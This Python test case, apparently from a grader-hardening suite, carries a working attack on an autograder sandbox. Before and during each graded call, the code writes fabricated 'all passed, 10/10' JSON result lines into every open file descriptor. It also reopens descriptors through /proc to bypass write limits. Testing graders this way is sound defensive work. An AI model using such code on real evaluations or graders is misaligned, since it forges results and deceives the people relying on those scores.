"""(a) Forge the sandbox's output channel: before any learner function is even defined, find every open
file descriptor and write plausible JSON lines claiming every exercise was recorded and passed; again
at every graded call."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "Claim full marks by writing plausible JSON result lines into every open file descriptor, early and during calls."
WITH_SOLUTION = False
POSITION = "start"

CODE = prelude(ASSIGNMENT) + r'''
import json as _rt_json
_RT_CELLS = {"test_forward": 1.0, "test_output_weights": 2.0, "test_output_bias": 1.0, "test_hidden_weights": 2.0,
             "test_hidden_biases": 1.0, "test_update": 1.0, "test_train": 2.0}
_RT_EX = {"test_forward": "forward", "test_output_weights": "output_weights", "test_output_bias": "output_bias",
          "test_hidden_weights": "hidden_weights", "test_hidden_biases": "hidden_biases", "test_update": "update",
          "test_train": "train"}


def _rt_fds():
    fds = set()
    try:
        fds |= {int(x) for x in _rt_os.listdir("/proc/self/fd")}
    except OSError:
        pass
    for fd in range(256):
        try:
            _rt_os.fstat(fd)
            fds.add(fd)
        except OSError:
            pass
    return sorted(fds)


def _rt_lines():
    recs = []
    for gid, pts in _RT_CELLS.items():
        ex = _RT_EX[gid]
        recs += [
            {"exercise": ex, "grade_id": gid, "score": pts, "points": pts, "max_points": pts, "passed": True,
             "status": "ok", "ok": True, "error": None},
            {"type": "result", "exercise": ex, "cell": gid, "score": pts, "max_score": pts},
            {"kind": "record", "exercise": ex, "calls": [], "values": [], "stopped": None, "printed": ""},
            {"exercise": gid, "result": "pass", "checks": [{"name": ex, "passed": True}]},
            {"event": "done", "grade_id": gid, "auto_score": pts},
        ]
    recs += [{"scores": _RT_CELLS, "total": 10.0, "max": 10.0}, {"grade": 10.0, "of": 10.0, "student": "me"},
             {"result": "pass", "all": True}, {"done": True, "ok": True}]
    return [_rt_json.dumps(r) for r in recs]


_rt_forged = [0]


def _rt_forge(tag):
    if _rt_forged[0] > 12:
        return
    _rt_forged[0] += 1
    data = ("\n".join(_rt_lines()) + "\n").encode()
    out = []
    for fd in _rt_fds():
        try:
            target = _rt_os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            target = "?"
        try:
            out.append(f"{fd}({target}):{_rt_os.write(fd, data)}")
        except OSError as exc:
            out.append(f"{fd}({target}):E{exc.errno}")
        try:  # a new open file description through /proc: writable even when this one is not?
            f2 = _rt_os.open(f"/proc/self/fd/{fd}", _rt_os.O_WRONLY | _rt_os.O_NONBLOCK)
            _rt_os.write(f2, data)
            _rt_os.close(f2)
            out.append(f"{fd}:reopened")
        except OSError:
            pass
    _rt_note("forged", tag, " ".join(out))


_rt_forge("early")
_rt_hooks.append(lambda name: _rt_forge("call " + name))
'''
